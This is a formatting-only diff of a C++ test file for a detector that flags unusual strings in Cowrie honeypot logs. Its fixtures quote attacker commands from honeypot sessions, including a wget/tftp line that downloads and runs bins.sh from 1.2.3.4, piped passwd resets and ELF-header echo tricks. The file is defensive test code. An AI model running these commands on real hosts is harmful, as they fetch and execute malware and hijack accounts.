@@ -23,23 +23,24 @@ std::string b64_blob(std::uint64_t seed, std::size_t n) {
 
 TEST(WeirdString, OrdinaryCommandsAreNotFlagged) {
     // Real commands from the sample logs, long scripts included.
-    for (const char* c : {"uname -a", "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
-                          "cd ~; chattr -ia .ssh; lockr -ia .ssh", "ls -lh $(which ls)",
-                          "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; "
-                          "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null);",
-                          "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; "
-                          "chmod 777 bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh",
-                          "ls /usr/local/lib/python3/dist-packages/somepackage/submodule/file.py",
-                          "echo -e \"123456\\n8xrQILXFzYPR\\n8xrQILXFzYPR\"|passwd|bash",
-                          // \n is a blank to echo -e: without that, this token scores 4.50 bits
-                          "echo -e \"plmoknijbuhvygctfxrdz\\nLyPtzLHaHyZi\\nLyPtzLHaHyZi\"|passwd|bash",
-                          "echo -e \"\\x6F\\x6B\"",  // two escapes: too short a run, and printable
-                          "grep -c 'ELF' /tmp/x", "cat SELF.txt", "file /bin/ls | grep ELF",
-                          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-                          "Chrome/70.0.3538.77 Safari/537.36",
-                          "!QAZXSW@#EDCVFR$%TGBNHY^",  // a keyboard walk: 24 distinct characters, two classes
-                          "password123\r",               // CR from a CRLF wordlist
-                          "пароль", "pässwörd", "tab\tseparated"})
+    for (const char* c :
+         {"uname -a", "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
+          "cd ~; chattr -ia .ssh; lockr -ia .ssh", "ls -lh $(which ls)",
+          "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; "
+          "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null);",
+          "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; "
+          "chmod 777 bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh",
+          "ls /usr/local/lib/python3/dist-packages/somepackage/submodule/file.py",
+          "echo -e \"123456\\n8xrQILXFzYPR\\n8xrQILXFzYPR\"|passwd|bash",
+          // \n is a blank to echo -e: without that, this token scores 4.50 bits
+          "echo -e \"plmoknijbuhvygctfxrdz\\nLyPtzLHaHyZi\\nLyPtzLHaHyZi\"|passwd|bash",
+          "echo -e \"\\x6F\\x6B\"",  // two escapes: too short a run, and printable
+          "grep -c 'ELF' /tmp/x", "cat SELF.txt", "file /bin/ls | grep ELF",
+          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+          "Chrome/70.0.3538.77 Safari/537.36",
+          "!QAZXSW@#EDCVFR$%TGBNHY^",  // a keyboard walk: 24 distinct characters, two classes
+          "password123\r",             // CR from a CRLF wordlist
+          "пароль", "pässwörd", "tab\tseparated"})
         EXPECT_EQ(reasons(c), "") << c;
 }
 
@@ -59,7 +60,9 @@ TEST(WeirdString, Reasons) {
     EXPECT_EQ(reasons("lost \xEF\xBF\xBD byte"), "nonprintable");  // U+FFFD
     EXPECT_EQ(reasons("c1 \xC2\x85 control"), "nonprintable");
     // ELF headers in every form seen.
-    EXPECT_EQ(reasons("\x7f" "ELF\x02\x01\x01"), "nonprintable;elf");
+    EXPECT_EQ(reasons("\x7f"
+                      "ELF\x02\x01\x01"),
+              "nonprintable;elf");
     EXPECT_EQ(reasons("echo -ne '\\x7fELF'"), "nonprintable;elf");
     EXPECT_EQ(reasons("printf '\\177ELF'"), "elf");
     EXPECT_EQ(reasons("/bin/busybox echo -ne '\\x45\\x4c\\x46'"), "elf");
@@ -97,7 +100,8 @@ std::string weird_corpus() {
     }
     d += ev("s2", "u1", "10.0.0.9", "cowrie.login.failed", "2026-02-05T10:00:00Z",
             R"("username":"b'us\\xe9r'","password":"d41d8cd98f00b204e9800998ecf8427e")");
-    d += ev("s2", "u1", "10.0.0.9", "cowrie.login.failed", "2026-02-05T10:00:01Z", R"("username":"root","password":"root")");
+    d += ev("s2", "u1", "10.0.0.9", "cowrie.login.failed", "2026-02-05T10:00:01Z",
+            R"("username":"root","password":"root")");
     d += ev("s2", "u1", "10.0.0.9", "cowrie.command.input", "2026-02-05T10:00:02Z", R"("input":">?A@/X'8ELFX@L")");
     d += ev("s2", "u1", "10.0.0.9", "cowrie.session.file_download.failed", "2026-02-05T10:00:03Z",
             R"("url":"http://1.2.3.4/\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07")");
@@ -155,7 +159,8 @@ TEST(WeirdStrings, MergeEqualsOnePass) {
     std::string d = weird_corpus();
     for (int i = 0; i < 40; ++i) {
         const std::string sid = cat("r", i), ip = cat("10.2.0.", i % 6);
-        const std::string ts = "2026-02-" + std::string(i % 28 < 9 ? "0" : "") + std::to_string(1 + i % 28) + "T11:00:00Z";
+        const std::string ts =
+            "2026-02-" + std::string(i % 28 < 9 ? "0" : "") + std::to_string(1 + i % 28) + "T11:00:00Z";
         d += ev("s3", sid, ip, "cowrie.command.input", ts, "\"input\":" + js("echo " + b64_blob(100 + i % 5, 60)));
         d += ev("s3", sid, ip, "cowrie.login.failed", ts,
                 "\"username\":\"root\",\"password\":" + js(i % 3 ? "x\x01y" : "plain"));
